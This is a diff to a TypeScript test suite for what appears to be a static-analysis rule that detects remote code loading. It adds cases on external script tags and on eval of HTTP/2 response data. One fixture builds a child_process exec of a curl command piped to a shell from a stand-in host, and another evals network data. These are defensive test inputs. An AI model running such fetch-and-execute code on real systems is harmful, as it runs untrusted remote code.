@@ -620,3 +620,16 @@ test('functions that work out texts end', () => {
   assert.equal(worst('const a = (x) => b(x + x); const b = (x) => a(x + x); require(a("x")); const c = (x) => c(x); require(c("y"))'), 'nothing');
   assert.equal(worst(`const t = ["a"]; ${Array.from({ length: 300 }, (_, i) => `const f${i} = (x) => f${(i + 1) % 300}(x + t[0]);`).join('')} require("child_process").exec(f0("curl https://x.example.org | "))`), 'nothing');
 });
+
+test('a page is opened by what is seen to run, whatever is found first', () => {
+  const page = (address: string) => `<script src="https://${address}"></script>`;
+  const files = { 'index.js': 'load(x); eval(x)', 'a.html': page('www.googletagmanager.com/gtag/js?id=G-X'), 'b.html': page('gist.example.org/x.js'), 'example/loader.js': 'open(x + ".html#" + y)' };
+  const severities = findingsOf(rule, files, { entry_points: ['index.js'] }).filter(({ file }) => file === 'b.html').map(({ severity }) => severity);
+  assert.deepEqual(severities, ['medium']);
+});
+
+test('bad: what a server answers over HTTP/2', () => {
+  const of = (then: string) => findingsOf(rule, { 'a.js': `const s = require("http2").connect("https://a.example.org"); const r = s.request({ ":path": "/x" }); r.on("data", (part) => ${then})` })[0]?.severity ?? 'nothing';
+  assert.equal(of('eval(String(part))'), 'critical');
+  assert.equal(of('console.log(String(part))'), 'nothing');
+});
